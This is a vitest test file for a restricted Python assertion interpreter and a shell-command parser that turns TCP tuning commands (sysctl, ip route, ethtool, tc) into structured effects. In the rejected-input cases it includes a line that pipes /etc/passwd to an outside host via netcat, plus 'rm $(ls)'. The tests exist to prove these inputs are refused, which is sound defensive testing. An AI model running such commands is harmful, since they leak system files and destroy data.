import { describe, expect, it } from 'vitest';
import { effectsOf } from './commands';
import { type Names, parsePython, runPython, Unsupported } from './python';

const INFO: Names = new Map([
  ['tcpi_snd_cwnd', 10],
  ['tcpi_rtt', 100_000],
  ['tcpi_options', 7],
  ['TCPI_OPT_ECN', 8],
]);

const failure = (code: string) => runPython(parsePython(code), new Map(INFO));

describe('assertions on tcp_info', () => {
  it.each([
    'assert tcpi_snd_cwnd == 10',
    'assert tcpi_snd_cwnd == 10, tcpi_snd_cwnd',
    "assert tcpi_snd_cwnd == 10, 'cwnd=%d' % tcpi_snd_cwnd",
    'assert 99000 <= tcpi_rtt <= 101000, "rtt %d" % (tcpi_rtt,)',
    'assert (tcpi_options & TCPI_OPT_ECN) == 0',
    'assert not tcpi_options & 8 and tcpi_options | 8 == 15',
    'assert abs(tcpi_rtt - 99000) < 2000 or False',
    'assert tcpi_snd_cwnd in (9, 10, 11) and 4 not in [1, 2]',
    'assert tcpi_rtt / 1000 == 100.0 and tcpi_rtt // 30000 == 3 and -7 // 2 == -4 and -7 % 3 == 2 and 2 ** 3 == 8',
    'assert max(1, min(5, 3)) == 3 and int(3.7) == 3 and 1 << 4 == 0x10 and ~0 == -1 and 5 ^ 1 == 4',
    'x = tcpi_snd_cwnd; assert x == 10; print(x)',
    'print "old", tcpi_rtt',
    'assert tcpi_snd_cwnd == 10, "cwnd {} of {}".format(tcpi_snd_cwnd, [1, 2][0]); assert tcpi_snd_cwnd > 9, f"{tcpi_snd_cwnd}"',
    'print("%d" % tcpi_snd_cwnd, sep=" ", file=sys.stderr)',
    '\n# a comment\nassert (tcpi_snd_cwnd ==\n        10)\nassert tcpi_rtt > 1 and \\\n  True\n',
    'assert (1 if tcpi_snd_cwnd > 5 else 0) == 1 and None is None and tcpi_rtt is not None',
  ])('%j holds', (code) => {
    expect(failure(code)).toBeNull();
  });

  it.each([
    ['assert tcpi_snd_cwnd == 11, 1', { line: 0, expected: 'tcpi_snd_cwnd == 11', got: 'tcpi_snd_cwnd = 10' }],
    ['x = 1\nassert x > 2', { line: 1, expected: 'x > 2', got: 'x = 1' }],
    ['assert 0', { line: 0, expected: '0', got: 'False' }],
    ['assert 1 / 0', { line: 0, expected: '1 / 0', got: 'a division by zero' }],
  ])('%j does not, and says why', (code, expected) => {
    expect(failure(code)).toEqual(expected);
  });

  it.each([
    'import os',
    'assert open("x")',
    'for x in (1, 2): pass',
    'assert tcpi_snd_cwnd.bit_length()',
    'assert [x for x in (1,)]',
    '__import__("os")',
    'assert lambda: 1',
    'assert `x`',
  ])('%j is not done, whatever it would do', (code) => {
    expect(() => failure(code)).toThrow(Unsupported);
  });

  it('a name nothing is known of is told with its line', () => {
    expect(() => failure('assert True\nassert tcpi_nosuch == 1')).toThrow(expect.objectContaining({ line: 1 }));
  });

  it('brackets without end do not exhaust anything', () => {
    expect(() => failure(`assert ${'('.repeat(5000)}1`)).toThrow(Unsupported);
    expect(() => failure(`assert ${'-'.repeat(5000)}1`)).toThrow(Unsupported);
    expect(() => failure(`assert ${'not '.repeat(5000)}1`)).toThrow(Unsupported);
  });

  it('long sums, texts that double and inverses of fractions have an answer', () => {
    expect(failure(`assert ${'1 + '.repeat(900)}1 == 901`)).toBeNull();
    expect(() => failure(`assert ${'0 or '.repeat(25_000)}1`)).toThrow(Unsupported);
    expect(failure(`x = 'a'\n${'x = x + x\n'.repeat(60)}`)).toMatchObject({ got: 'a string that is too long' });
    expect(failure('assert ~1.5 == 0')).toMatchObject({ got: 'bits of what is no whole number' });
    expect(failure('assert ~5 == -6')).toBeNull();
  });
});

describe('shell commands', () => {
  const sysctl = (name: string, value: number | string) => ({ kind: 'sysctl', name, value });

  it.each([
    ['sysctl -q net.ipv4.tcp_sack=0', [sysctl('ipv4.tcp_sack', 0)]],
    [
      'sysctl -q net.ipv4.tcp_sack=0 net.ipv4.tcp_dsack=0 > /dev/null 2>&1',
      [sysctl('ipv4.tcp_sack', 0), sysctl('ipv4.tcp_dsack', 0)],
    ],
    ['echo 0 > /proc/sys/net/ipv4/tcp_timestamps', [sysctl('ipv4.tcp_timestamps', 0)]],
    [
      'sysctl -w net.ipv4.tcp_rmem="4096 87380 $((6*1024*1024))"',
      [
        sysctl('ipv4.tcp_rmem.min', 4096),
        sysctl('ipv4.tcp_rmem.default', 87_380),
        sysctl('ipv4.tcp_rmem.max', 6 << 20),
      ],
    ],
    [
      '../common/set_sysctls.py /proc/sys/net/ipv4/tcp_sack=0 \\\n  /proc/sys/net/ipv4/tcp_early_retrans=0',
      [sysctl('ipv4.tcp_sack', 0)],
    ],
    ['sysctl net.ipv4.tcp_congestion_control=reno # the old one', [sysctl('ipv4.tcp_congestion_control', 'reno')]],
    [
      'ip route replace 192.0.2.0/24 dev tun0 initcwnd 3 rto_min 50ms',
      [{ kind: 'route', metrics: { initcwnd: 3, rtoMinMs: 50 } }],
    ],
    [
      'ip route change default via 192.168.0.1 mtu lock 1000',
      [{ kind: 'route', metrics: { mtu: 1000, locked: ['mtu'] } }],
    ],
    ['sleep 0.5', [{ kind: 'sleep', us: 500_000 }]],
    ['ifconfig tun0 mtu 1400', [{ kind: 'mtu', bytes: 1400 }]],
    ['tc qdisc add dev tun0 root pfifo; ethtool -K tun0 gro off && true', []],
    [
      'ethtool -K tun0 gso off tso on',
      [
        { kind: 'offload', feature: 'gso', on: false },
        { kind: 'offload', feature: 'tso', on: true },
      ],
    ],
    [
      'tc qdisc delete dev tun0 root 2>/dev/null ; tc qdisc add dev tun0 root pfifo limit 0',
      [
        { kind: 'queue', limit: null },
        { kind: 'queue', limit: 0 },
      ],
    ],
    ['echo 3 > /sys/module/tcp_cubic/parameters/hystart_detect', []],
    ['/tmp/sysctl_restore_1234.sh', []],
    ['ip tcp_metrics flush all > /dev/null 2>&1', []],
    ['nstat -n', []],
    ['', []],
  ])('%j', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });

  it.each([
    'iptables -A INPUT -j DROP',
    'cat /etc/passwd | nc example.org 1',
    'rm $(ls)',
    'nstat | grep -q TcpExtBeyondWindow',
  ])('%j is not done', (text) => {
    expect(effectsOf(text)).toEqual([{ kind: 'unsupported', what: expect.any(String) }]);
  });

  it.each([
    'sysctl -q net.ipv4.tcp_recovery=1',
    'sysctl -q net.ipv4.tcp_sack=7',
    'echo 1 > /sys/module/tcp_cubic/parameters/hystart_detect',
    'ethtool -K tun0 lro on',
    'tc qdisc replace dev tun0 root fq',
    'ip route add blackhole 10.0.0.0/8',
  ])('%j is a setting that is left out', (text) => {
    expect(effectsOf(text)).toEqual([{ kind: 'ignored', what: expect.any(String) }]);
  });
});
